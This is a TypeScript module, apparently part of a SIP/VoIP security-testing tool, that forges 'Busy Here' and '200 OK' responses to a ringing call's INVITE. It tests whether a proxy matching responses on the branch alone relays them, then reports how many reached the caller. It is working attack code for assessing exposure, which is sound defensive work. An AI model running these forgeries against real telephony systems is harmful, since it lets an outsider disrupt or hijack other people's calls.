/**
 * response-inject: forged responses for a transaction the attacker can guess. Our caller
 * INVITEs our callee through the target; while the call rings, a third address sends the
 * target answers for it (486 Busy Here and 200 OK), built from the INVITE as the callee
 * received it: the target's own Via on top, so only the source address betrays them. A
 * proxy that matches responses on the branch alone (RFC 3261 17.1.3) relays them; one that
 * also checks who answers drops them. Each forgery's To tag starts with "forged", so the
 * caller knows one when it sees it.
 *
 * Without --uas the target is the callee: the forgeries then go to the caller directly
 * (the caller's own transaction, which the tool knows), and the result says what a caller
 * talking straight to that service is exposed to.
 */
import type { SipRequest, SipResponse } from '../../sip/message.ts';
import { type CommonOptions, readMessage } from '../context.ts';
import { Random } from '../random.ts';
import type { AttackReport } from '../report.ts';
import { toTag } from '../sip-text.ts';
import { Tally } from '../tally.ts';
import { type Endpoint, formatEndpoint } from '../target.ts';
import { FORGED_MARKER } from '../ua/callee.ts';
import { cast, type ThirdPartyOptions } from './third-party.ts';

export type ResponseInjectOptions = ThirdPartyOptions & CommonOptions;

const RING_MS = 2000;
const TIMEOUT_MS = 4000;

/** A response to `request` as its callee would write it, with a marked To tag. */
export function forgedResponse(request: SipRequest, status: number, reason: string, tag: string): string {
  const lines = [`SIP/2.0 ${status} ${reason}`];
  for (const header of request.headers) {
    if (
      header.name === 'via' ||
      header.name === 'from' ||
      header.name === 'call-id' ||
      header.name === 'cseq'
    ) {
      lines.push(header.raw ?? `${header.name}: ${header.value}`);
    } else if (header.name === 'to') {
      lines.push(`To: ${header.value};tag=${tag}`);
    }
  }
  lines.push(`Contact: <sip:${FORGED_MARKER}@127.0.0.1>`);
  lines.push('Content-Length: 0');
  return `${lines.join('\r\n')}\r\n\r\n`;
}

export async function runResponseInject(options: ResponseInjectOptions): Promise<AttackReport> {
  const { target, limits } = options;
  const random = new Random(options.seed);
  const forgeries = Math.max(2, Math.min(limits.count, 40));
  const tally = new Tally(forgeries);
  const started = performance.now();
  const startedAt = new Date().toISOString();
  const actors = await cast(options, random, options.uas === undefined ? 0 : RING_MS);
  const { phone, callee, forger } = actors;
  const reached: SipResponse[] = [];
  const previous = phone.endpoint.onAnyResponse;
  phone.endpoint.onAnyResponse = (response, from) => {
    if ((toTag(response) ?? '').startsWith(FORGED_MARKER) && reached.length < 100) reached.push(response);
    previous?.(response, from);
  };
  let sent = 0;
  const fire = (request: SipRequest, to: Endpoint): void => {
    for (let i = 0; i < forgeries; i++) {
      const [status, reason] = i % 2 === 0 ? [486, 'Busy Here'] : [200, 'OK'];
      forger.send(forgedResponse(request, status, reason, `${FORGED_MARKER}${random.token(6)}`), to);
      tally.sentOne(sent++);
    }
  };

  try {
    const call = phone.newCall({ user: '100', fromUser: 'alice' });
    let fired = false;
    const invited = await call.invite(RING_MS + TIMEOUT_MS, () => {
      if (fired) return;
      if (callee) {
        // The INVITE as the callee got it: the target's Via on top, sent from the target's address.
        const received = callee.inviteFor(call.callId);
        if (!received) return;
        fired = true;
        fire(received.request, { address: received.from.address, port: received.from.port });
      }
    });
    if (!callee) {
      // The target is the callee: forge answers to the caller's own transaction, sent to the caller.
      const own = phone.endpoint;
      const request = readInvite(call.inviteText);
      if (request) {
        fired = true;
        fire(request, { address: own.address, port: own.port });
      }
    }
    // Let late forgeries arrive, then end the call if it was set up.
    await new Promise((resolve) => setTimeout(resolve, 300));
    const status = invited.final?.status ?? 0;
    if (
      status >= 200 &&
      status < 300 &&
      call.dialog &&
      !(toTag(invited.final!) ?? '').startsWith(FORGED_MARKER)
    ) {
      await call.bye(TIMEOUT_MS);
    }
    phone.forget(call);
    for (let i = 0; i < Math.min(reached.length, forgeries); i++) tally.answer(i, reached[i]!.status);
    // Forgeries are not a stream the target answers in turn: silence here is no block.
    const { blockedAfter: _silence, ...answers } = tally.summary();
    const finalForged = invited.final !== undefined && (toTag(invited.final) ?? '').startsWith(FORGED_MARKER);
    const succeeded = reached.length > 0;
    const how =
      callee === undefined
        ? 'sent straight to the caller (no --uas: the target is the callee)'
        : 'sent to the target';
    return {
      kind: 'response-inject',
      target: formatEndpoint(target),
      transport: 'udp',
      startedAt,
      seconds: Math.round((performance.now() - started) / 10) / 100,
      unit: 'forged response',
      rate: { asked: 0, achieved: 0 },
      sources: { count: 1, first: forger.address, last: forger.address },
      sendErrors: forger.sendErrors,
      answers,
      succeeded,
      applicable: fired,
      outcome: !fired
        ? 'no transaction to attack: the call never rang'
        : succeeded
          ? `${reached.length} forged response${reached.length === 1 ? '' : 's'} reached the caller${finalForged ? ', and ended its INVITE' : ''}`
          : `none of the ${forgeries} forged responses reached the caller`,
      details: {
        callee: callee ? `${callee.address}:${callee.port}` : 'target',
        forger: `${forger.address}:${forger.port}`,
        forged: forgeries,
        reached: reached.length,
        reachedStatuses: reached.slice(0, 10).map((r) => r.status),
        inviteFinal: status,
        inviteEndedByForgery: finalForged,
      },
      notes: [
        `forged    ${forgeries} responses (486 and 200) ${how}`,
        `reached   ${reached.length} at the caller; the INVITE ended with ${status || 'no answer'}${finalForged ? ' (forged)' : ''}`,
      ],
    };
  } finally {
    actors.close();
  }
}

function readInvite(text: string): SipRequest | undefined {
  const message = readMessage(Buffer.from(text, 'latin1'));
  return message?.kind === 'request' ? message : undefined;
}
